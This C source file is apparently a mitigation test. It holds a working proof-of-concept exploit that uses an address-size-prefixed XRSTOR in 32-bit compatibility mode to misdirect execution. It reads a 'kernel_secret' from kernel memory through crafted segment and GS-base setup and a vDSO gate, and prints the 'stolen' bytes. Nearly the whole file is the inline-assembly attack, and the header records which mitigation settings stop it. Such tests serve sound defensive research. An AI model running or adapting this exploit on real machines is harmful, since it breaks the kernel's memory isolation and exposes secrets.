/* none: succeeds: secret; keys: succeeds: secret; full: fails "nothing stolen" */
#include "chance.h"

/*
 * XRSTOR with a prefix for its address's size, as 32-bit code reads it: its displacement has two bytes then. Of four, the rest is a
 * jump; or it has none, and takes two bytes of what follows it, the check in its slot.
 */
#define SPACE 0x2b  /* the data segment of 32-bit code */
#define SHIFT 0xa9  /* the displacement that the check makes */
#define FUNCTION(name, bytes) ".balign 4096\n.type " name ", @function\n" name ":\t.cfi_startproc\n\t.byte " bytes "\n" \
	".code32\n\tljmp $0x33, $back\n.code64\n\tret\n\t.cfi_endproc\n.size " name ", . - " name "\n"

__asm__(".pushsection .text\n" FUNCTION("with_jump", "0x65, 0x67, 0x0f, 0xae, 0xaf, 0x00, 0x00, 0xff, 0xe3") FUNCTION("with_check", "0x65, 0x67, 0x0f, 0xae, 0x2e")
	".balign 4096\nto32:\n.code32\n\tjmp *%ecx\n.balign 16\nland32:\tljmp $0x33, $back\n.code64\n.popsection");
extern const unsigned char with_jump[], with_check[], land32[];
uint64_t from, gate, stack, words[2];
static unsigned char state[2 * PAGE] __attribute__((aligned(PAGE))) = { [513] = 2 };
static unsigned char writable[2 * PAGE] __attribute__((aligned(PAGE)));

static const unsigned char *xrstor_of(const unsigned char *function)
{
	int32_t distance;

	memcpy(&distance, function + 1, sizeof distance);
	if (*function != 0xe9)
		return function;
	for (function += 5 + distance; function[0] != 0x65 || function[1] != 0x67;)
		function++;
	return function;
}

static void attempt(int number)
{
	uint64_t to = (uintptr_t)xrstor_of(number ? with_check : with_jump);
	uint64_t base = (uintptr_t)state - (number ? SHIFT : (uintptr_t)land32 & 0xffff), eax = (number ? (uintptr_t)writable : 0) + 0x200;

	from = at("kernel_secret");
	gate = getauxval(AT_SYSINFO);
	__asm__ volatile("mov %[space], %%edx\n\tmov %%edx, %%ds\n\tmov %%edx, %%es\n\tmov %%edx, %%gs\n\twrgsbase %[base]\n\t"
			 "push %%rbx\n\tpush %%rbp\n\tmov %%rsp, stack\n\txor %%edx, %%edx\n\tmov $land32, %%ebx\n\t"
			 "push $0x23\n\tpush $to32\n\tlretq\n"
			 "back:\tmov stack, %%rsp\n\tmov from, %%rbx\n\tmov (%%rbx), %%rdi\n\tmov 8(%%rbx), %%rsi\n\t"
			 "mov %%rdi, words\n\tmov %%rsi, words + 8\n\tmov gate, %%r13\n\tmov %[getpid], %%eax\n\tlea 1f(%%rip), %%rcx\n\tjmp *%%r13\n"
			 "1:\tpop %%rbp\n\tpop %%rbx\n\txor %%eax, %%eax\n\tmov %%eax, %%ds\n\tmov %%eax, %%es\n\tmov %%eax, %%gs"
			 : "+a"(eax), "+c"(to)
			 : [base] "r"(base), [space] "i"(SPACE), [getpid] "i"(SYS_getpid)
			 : "memory", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "cc");
	say("stolen: %.*s\n", SECRET, (char *)words);
	_exit(STOLEN);
}

int main(void)
{
	attempts(attempt, 2);
	return 0;
}
